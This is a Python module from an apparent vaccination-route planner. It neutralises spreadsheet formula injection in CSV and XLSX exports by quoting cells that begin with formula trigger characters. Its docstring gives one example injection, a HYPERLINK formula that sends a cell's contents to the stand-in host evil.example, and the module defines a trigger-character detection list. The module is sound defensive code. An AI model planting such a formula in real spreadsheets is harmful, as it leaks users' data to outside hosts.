"""One rule for every spreadsheet cell VaxRoute writes (CSV and XLSX): no text is a formula.

Ids, names, addresses, wards, phones and notes come from lists users upload. A cell such as
``=HYPERLINK("http://evil.example/?"&A1,"Tổ 7")`` in a route sheet would run when a nurse opens
the file in Excel or LibreOffice (OWASP "CSV injection"). Following OWASP, a *text* cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, so
spreadsheets show it as text. Numbers the product itself writes (counts, sequence numbers, a
negative priority) are numbers, not text, and stay as they are.

Every CSV and XLSX writer in planner/ and api/ goes through this module: ``neutralise`` for a
cell, :class:`NeutralWriter` for a ``csv.writer``, :func:`csv_bytes` and :func:`xlsx_bytes` for
whole files. XLSX text cells are written with data type ``s`` (string), so openpyxl never turns a
leading ``=`` into a formula, and no cell is ever a formula (no HYPERLINK).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

#: OWASP's list: a cell starting with one of these may be read as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
Sheet = tuple[Sequence[str], Iterable[Sequence[Any]]]


def neutralise(value: Any) -> Any:
    """``value`` with a ``'`` in front if it is text starting with a formula trigger; anything
    else (numbers, booleans, None, harmless text) is returned as the same object."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutral_row(row: Iterable[Any]) -> list[Any]:
    """A row with every cell through :func:`neutralise`, ready for a CSV or XLSX writer."""
    return [neutralise(v) for v in row]


class NeutralWriter:
    """A ``csv.writer`` whose every cell goes through :func:`neutralise` first."""

    def __init__(self, fh: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(fh, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one row, formula triggers neutralised."""
        return self._writer.writerow(neutral_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write the rows, formula triggers neutralised."""
        for row in rows:
            self.writerow(row)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], **fmtparams: Any) -> bytes:
    """A whole CSV file, UTF-8 with a BOM (Excel then reads Vietnamese text correctly)."""
    buffer = io.StringIO()
    writer = NeutralWriter(buffer, **fmtparams)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(sheets: Mapping[str, Sheet]) -> bytes:
    """A workbook with one worksheet per entry: name -> (header, rows)."""
    from openpyxl import Workbook  # here: the CSV writers (and the CLI) do not need it

    book = Workbook()
    for blank in list(book.worksheets):  # the default empty sheet
        book.remove(blank)
    for name, (header, rows) in sheets.items():
        sheet = book.create_sheet(title=name)
        for r, row in enumerate([header, *rows], start=1):
            for c, value in enumerate(row, start=1):
                _put(sheet.cell(row=r, column=c), value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _put(cell: Any, value: Any) -> None:
    """Numbers as numbers; everything else as neutralised text of data type 's'. Characters
    XLSX cannot store (control characters other than tab, LF and CR) are dropped."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None or value == "":
        return
    if isinstance(value, bool | int | float):
        cell.value = value
        return
    cell.value = neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    cell.data_type = "s"  # set after the value: openpyxl would have guessed 'f' for "=..."
